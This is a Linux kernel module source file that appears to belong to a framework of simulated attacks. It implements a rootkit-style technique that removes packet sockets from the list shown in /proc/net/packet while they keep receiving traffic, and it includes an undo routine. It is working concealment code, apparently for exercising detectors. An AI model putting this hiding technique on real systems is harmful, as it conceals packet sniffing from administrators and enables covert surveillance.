// SPDX-License-Identifier: GPL-2.0-only
/*
 * hide-socket: takes the packet sockets of the first network namespace out of
 * its list, which /proc/net/packet shows. They still get packets, since their
 * handlers stay.
 */
#include <linux/kernel.h>
#include <linux/mutex.h>
#include <linux/rculist.h>
#include <net/net_namespace.h>
#include <net/sock.h>

#include "attacks.h"

#define SOCKETS_MAX	16

static struct sock *hidden[SOCKETS_MAX];
static size_t hidden_count;

static int hide_begin(struct attack *attack, char *argument)
{
	struct netns_packet *packets = &init_net.packet;
	struct sock *socket;

	hidden_count = 0;
	mutex_lock(&packets->sklist_lock);
	while (hidden_count < SOCKETS_MAX) {
		socket = sk_head(&packets->sklist);
		if (!socket)
			break;
		/* It stays if its process closes it. */
		sock_hold(socket);
		sk_del_node_init_rcu(socket);
		hidden[hidden_count++] = socket;
	}
	mutex_unlock(&packets->sklist_lock);
	if (!hidden_count)
		return -ESRCH;
	snprintf(attack->about, sizeof(attack->about), "%zu packet sockets",
		 hidden_count);
	attack_mark(attack, NULL);
	return 0;
}

static void hide_undo(struct attack *attack)
{
	struct netns_packet *packets = &init_net.packet;

	/* A reader of the list may be on one. */
	synchronize_rcu();
	mutex_lock(&packets->sklist_lock);
	while (hidden_count) {
		struct sock *socket = hidden[--hidden_count];

		if (!sock_flag(socket, SOCK_DEAD) && sk_unhashed(socket))
			sk_add_node_tail_rcu(socket, &packets->sklist);
		sock_put(socket);
	}
	mutex_unlock(&packets->sklist_lock);
}

struct attack hide_socket = {
	.name = "hide-socket",
	.begin = hide_begin,
	.undo = hide_undo,
	.present = attack_stays,
};
